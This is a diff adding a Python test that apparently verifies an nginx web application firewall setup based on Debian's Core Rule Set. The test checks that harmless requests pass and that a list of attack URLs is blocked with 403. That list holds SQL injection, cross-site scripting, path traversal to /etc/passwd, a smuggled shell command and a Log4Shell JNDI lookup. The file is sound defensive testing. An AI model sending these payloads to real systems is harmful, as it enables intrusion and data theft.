@@ -112,3 +112,32 @@ def test_debians_crs_loads_without_a_warning():
     found, objections = check(files)
     assert not objections
     assert found["rules"] > 500
+
+
+ATTACKS = ["/?q=%27%20or%201=1--%20", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?file=../../../../etc/passwd",
+           "/?cmd=;cat%20/etc/passwd", "/?x=$%7Bjndi:ldap://example.com/a%7D"]
+
+
+@needs_debian
+def test_the_example_with_debians_crs_blocks_attacks(tmp_path):
+    tmp_path.chmod(0o755)
+    text = (HERE.parents[1] / "nginx-conf/crs.conf").read_text()
+    http = text[text.index("http {") + len("http {"):text.rindex("}")]
+    with Application() as application:
+        nginx = Nginx(tmp_path, application.port)
+        for line, ours in {"listen 80;": f"listen 127.0.0.1:{nginx.port};", "http://127.0.0.1:3000": "http://127.0.0.1:{up}",
+                           "/var/log/nginx/rasp.json": "{dir}/events.log"}.items():
+            assert line in http
+            http = http.replace(line, ours)
+        nginx.start(http)
+        try:
+            assert nginx.get("/?q=harmless").status == 200
+            assert {target: nginx.get(target).status for target in ATTACKS} == dict.fromkeys(ATTACKS, 403)
+            script = "text=%3Cscript%3Ealert(1)%3C/script%3E"
+            assert nginx.get("/editor/?" + script).status == 200
+            assert nginx.get("/editor/?other" + script).status == 403
+            events = nginx.events(len(ATTACKS) + 1)
+            assert all(event["event"]["action"] == "blocked" for event in events)
+        finally:
+            nginx.stop()
+        nginx.assert_clean()
